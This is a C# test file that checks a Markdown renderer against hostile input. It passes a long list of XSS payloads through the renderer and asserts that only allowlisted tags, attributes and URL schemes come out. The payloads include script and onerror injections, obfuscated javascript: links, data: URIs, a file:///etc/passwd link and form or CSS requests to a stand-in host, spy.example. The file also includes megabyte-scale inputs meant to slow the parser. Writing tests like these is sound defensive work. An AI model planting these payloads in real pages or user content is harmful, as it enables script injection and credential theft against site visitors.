using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Plimsoll.Web.Platform.Text.Markdown;

namespace Plimsoll.Web.Tests.Platform.Text;

/// <summary>What somebody writes who wishes the reader ill.</summary>
public sealed partial class HostileMarkdownTests
{
    private static readonly HashSet<string> Elements =
    [
        "P",
        "BR",
        "HR",
        "H1",
        "H2",
        "H3",
        "H4",
        "H5",
        "H6",
        "UL",
        "OL",
        "LI",
        "BLOCKQUOTE",
        "PRE",
        "CODE",
        "EM",
        "STRONG",
        "DEL",
        "A",
        "IMG",
        "SPAN",
        "TABLE",
        "THEAD",
        "TBODY",
        "TR",
        "TH",
        "TD",
    ];
    private static readonly HashSet<string> Attributes =
    [
        "href",
        "src",
        "alt",
        "title",
        "rel",
        "class",
        "loading",
        "start",
        "style",
    ];

    public static TheoryData<string> Attempts() =>
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<a href='javascript:alert(1)'>x</a>",
            "<style>*{background:url(https://spy.example)}</style>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<details open ontoggle=alert(1)>",
            "<base href=//spy.example>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<form action=//spy.example><input name=password></form>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](  javascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](java&#10;script:alert(1))",
            "[x](java&Tab;script:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](&#1;javascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](\u200bjavascript:alert(1))",
            "[x](\u202ejavascript:alert(1))",
            "[x](ja\u00advascript:alert(1))",
            "[x](ｊavascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](file:///etc/passwd)",
            "[x](blob:https://x.example/1)",
            "[x](view-source:https://x.example)",
            "[x](ftp://x.example)",
            "[x](tel:+100)",
            "[x](//spy.example)",
            "[x](/\\spy.example)",
            "[x](/\t/spy.example)",
            "[x](\\\\spy.example)",
            "[x](https:spy.example)",
            "[x](relative.html)",
            "[x](#top)",
            "[x](?q=1)",
            "<javascript:alert(1)>",
            "<data:text/html,x>",
            "[x][r]\n\n[r]: javascript:alert(1)",
            "[x][r]\n\n[r]: <javascript:alert(1)> 'title'",
            "[x](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")",
            "[x](https://ok.example\" onmouseover=\"alert(1))",
            "![\" onerror=\"alert(1)](/files/01932b6e-0000-7000-8000-0000000000ff)",
            "![x](/files/01932b6e-0000-7000-8000-0000000000ff\"onerror=alert(1))",
            "![x](javascript:alert(1))",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "[a](https://ok.example/[b](javascript:alert(1)))",
            "```\"><script>alert(1)</script>\nx\n```",
            "```x\" onmouseover=\"alert(1)\nx\n```",
            "`<script>alert(1)</script>`",
            "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
            "@[<img src=x onerror=alert(1)>](person:01932b6e-0000-7000-8000-000000000001)",
            "@[\" onmouseover=alert(1)](person:01932b6e-0000-7000-8000-000000000001)",
            "https://x.example/<script>alert(1)</script>",
            "https://x.example/\"onmouseover=alert(1)",
            "http://javascript:alert(1)@spy",
            "\u0000<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "{onclick=alert(1)} # heading {#id onclick=alert(1)}",
            "<https://x.example/\u202egpj.exe>",
            "\ud800<script>",
            "---\ntitle: x\n---\n<script>alert(1)</script>",
            "$$<script>alert(1)</script>$$",
            "[^1]: <script>alert(1)</script>",
        ];

    [Theory, MemberData(nameof(Attempts))]
    public void Nothing_but_words_links_and_own_pictures_comes_out(string text)
    {
        var html = Markdown.ToHtml(text);
        var page = new HtmlParser().ParseDocument($"<body><div id=here>{html}</div></body>");
        page.Body!.ChildElementCount.ShouldBe(1, html);
        foreach (var element in page.QuerySelectorAll("#here *"))
        {
            Elements.ShouldContain(element.TagName, html);
            foreach (var attribute in element.Attributes)
                Attributes.ShouldContain(attribute.Name, html);
            if (element.GetAttribute("href") is { } href)
                Href().IsMatch(href).ShouldBeTrue(html);
            if (element.GetAttribute("src") is { } src)
                Src().IsMatch(src).ShouldBeTrue(html);
            if (element.GetAttribute("style") is { } style)
                style.ShouldStartWith("text-align:");
        }
    }

    [Fact]
    public void Writing_is_not_turned_around() =>
        Markdown
            .ToHtml("invoice\u202efdp.exe \u2066x\u2069")
            .Trim()
            .ShouldBe("<p>invoicefdp.exe x</p>");

    public static TheoryData<string, string> Floods()
    {
        string[] seeds =
        [
            "[",
            "![",
            "[](",
            "[a](",
            "[a](<b",
            "> ",
            ">",
            "*",
            "**a ",
            "_",
            "*a_ ",
            "~",
            "~~",
            "`",
            "` ``",
            "``` ",
            "- ",
            "1. ",
            "- a\n  ",
            "<",
            "<a",
            "<!--",
            "<http://",
            "http://a",
            "www.",
            "@[",
            "@[x](person:",
            "|",
            "| a |\n|---|\n",
            "|-",
            "&",
            "&#",
            "\\",
            "\\[",
            "# ",
            "\n",
            "\t",
            "    ",
            "[a]: b\n",
            "[a]\n\n[a]: <b>\n",
            "[[]",
            "]",
            "[]",
            "(",
            "![](",
            "[ ] ",
            "- [ ] ",
            "a\n",
            "=\n",
            "-\n",
            "> - ",
            "> a\n",
            "*a **a ",
            "😀",
            "\u0301",
            "мир *",
            "[a](b)",
            "a|b\n-|-\n",
        ];
        var data = new TheoryData<string, string>();
        foreach (var seed in seeds)
            data.Add(seed, "");
        data.Add("[", "]");
        data.Add("(", ")");
        data.Add("![", "](x)");
        data.Add("**", "**");
        return data;
    }

    /// <summary>Bounded by its length, not by a clock: what would take a minute unbounded is done at once.</summary>
    [Theory, MemberData(nameof(Floods))]
    public async Task A_megabyte_of_anything_is_done_at_once(string seed, string after)
    {
        const int megabyte = 1024 * 1024;
        var text = string.Concat(
            Enumerable.Repeat(seed, megabyte / seed.Length / (after == "" ? 1 : 2))
        );
        if (after != "")
            text += string.Concat(Enumerable.Repeat(after, megabyte / after.Length / 2));
        var work = Task.Run(
            () =>
            {
                _ = Markdown.ToHtml(text);
                _ = Markdown.ToPlainText(text);
                _ = Mentions.In(text);
            },
            TestContext.Current.CancellationToken
        );
        await work.WaitAsync(TimeSpan.FromSeconds(60), TestContext.Current.CancellationToken);
    }

    [GeneratedRegex("^(https?://|mailto:|/(?![/\\\\]))")]
    private static partial Regex Href();

    [GeneratedRegex("^/files/[0-9a-f-]{36}/thumb\\?size=1600$")]
    private static partial Regex Src();
}
